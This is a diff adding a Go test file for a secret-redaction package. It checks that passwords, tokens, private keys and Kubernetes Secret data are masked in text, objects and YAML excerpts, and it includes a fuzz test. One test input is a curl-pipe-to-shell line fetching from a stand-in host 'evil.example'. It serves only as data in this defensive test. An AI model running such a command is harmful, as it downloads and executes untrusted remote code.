@@ -1,0 +1,102 @@
+package veil_test
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"tenon.dev/tenon/internal/veil"
+)
+
+const secret = "S3cr3tM4rk3rXYZ"
+
+// TestText: what is a secret is hidden, and what is not stays to be read.
+func TestText(t *testing.T) {
+	for _, text := range []string{
+		"export PASSWORD=S", "PASSWORD='S'", `password: "S"`, `{"auth": "S"}`, "password = S", "--password=S", "--api-token S", `["--token", "S"]`, "curl -u me:S https://a", "Authorization: Bearer S",
+		"https://u:S@host/x", "postgres://u:S@db", "machine a login b password S", "MYSQL_PWD=S", "api_key=S", "-----BEGIN RSA PRIVATE KEY-----\nS\n-----END RSA PRIVATE KEY-----", "AWS_SECRET_ACCESS_KEY=S",
+		"client-secret: S", `"\nexport TOKEN=S\n"`, "token=S;", "webhook_url: S",
+	} {
+		if shown := veil.Text(mark(text)); strings.Contains(shown, secret) {
+			t.Errorf("%s is shown: %s", text, shown)
+		}
+	}
+	for _, text := range []string{
+		"secretName: registry-push", "secretKeyRef: {name: api, key: token}", "TOKEN=$(cat /run/token)", "TOKEN=$TOKEN", `PASSWORD="${PASSWORD}"`, "password: $(params.password)", "imagePullSecrets: [a]",
+		"automountServiceAccountToken: false", "author: Jane", "a token is asked for", "TOKEN_URL=https://evil.example/x", "token='curl evil.example | sh'", "https://host/x@sha256:abc", "git@github.com:a/b", "tokens: 5",
+	} {
+		if shown := veil.Text(text); shown != text {
+			t.Errorf("%s is shown as %s", text, shown)
+		}
+	}
+}
+
+// mark puts the secret into a text, in the place of its S that stands alone.
+func mark(text string) string {
+	fields := strings.NewReplacer("=S", "="+secret, `"S"`, `"`+secret+`"`, "'S'", "'"+secret+"'", " S", " "+secret, ":S", ":"+secret, "\nS\n", "\n"+secret+"\n")
+	return fields.Replace(text)
+}
+
+// TestObject: names stand beside values, above them, and in the words before.
+func TestObject(t *testing.T) {
+	object := map[string]any{
+		"env":    []any{map[string]any{"name": "DB_PASSWORD", "value": secret}, map[string]any{"name": "MODE", "value": "fast"}},
+		"params": []any{map[string]any{"name": "api-token", "default": secret}, map[string]any{"name": "tokens", "default": []any{secret}}},
+		"args":   []any{"--password", secret, "-u", "me:" + secret, "--mode", "fast"},
+		"data":   map[string]any{"password": secret, "secretName": "a-name", "mode": "fast"},
+	}
+	shown := veil.Object("ConfigMap", object)
+	text := ""
+	for _, part := range []any{shown["env"], shown["params"], shown["args"], shown["data"]} {
+		text += strings.TrimSpace(strings.ReplaceAll(stringOf(part), "\n", " "))
+	}
+	if strings.Contains(text, secret) || strings.Count(text, "fast") != 3 || !strings.Contains(text, "a-name") {
+		t.Error(text)
+	}
+	if whole := stringOf(veil.Object("Secret", map[string]any{"data": map[string]any{"any": "x"}})); strings.Contains(whole, "x") && !strings.Contains(whole, veil.Hidden) {
+		t.Error(whole)
+	}
+}
+
+func jsonOf(value any) string {
+	text, _ := json.Marshal(value)
+	return string(text)
+}
+
+func stringOf(value any) string { return veil.Manifest(jsonOf(value)) }
+
+// TestExcerpt: no line is shown of what looks like a Secret, or of a private key.
+func TestExcerpt(t *testing.T) {
+	text := "kind: Pod\nspec:\n- name: TOKEN\n  other: 1\n  value: " + secret + "\n---\nkind: Secret\ndata:\n  a: " + secret + "\n---\nkey: |\n  -----BEGIN PRIVATE KEY-----\n  " + secret + "\n  -----END PRIVATE KEY-----\nfine: yes\n"
+	for n := 1; n <= 16; n++ {
+		for _, line := range veil.Excerpt("a.yaml", text, n, n+2) {
+			if strings.Contains(line, secret) {
+				t.Errorf("line %d shows %s", n, line)
+			}
+		}
+	}
+	if got := veil.Excerpt("a.yaml", text, 15, 15); len(got) != 1 || got[0] != "fine: yes" {
+		t.Errorf("%q", got)
+	}
+	if got := veil.Excerpt("a.yaml", text, 8, 8); got != nil {
+		t.Errorf("a Secret is quoted: %q", got)
+	}
+}
+
+// FuzzText: nothing breaks the veil, and what is hidden stays hidden.
+func FuzzText(f *testing.F) {
+	for _, text := range []string{"password=abc", `{"auth": "abc"}`, "https://u:p@h", "name: TOKEN\nvalue: x", "kind: Secret\n---\na"} {
+		f.Add(text)
+	}
+	f.Fuzz(func(_ *testing.T, text string) {
+		veil.Text(text)
+		veil.Secrets(text)
+		veil.Manifest(text)
+		veil.Lines(strings.Split(text, "\n"))
+		for n := range strings.Count(text, "\n") + 2 {
+			if n < 50 {
+				veil.Excerpt("a.yaml", text, n, n+2)
+			}
+		}
+	})
+}
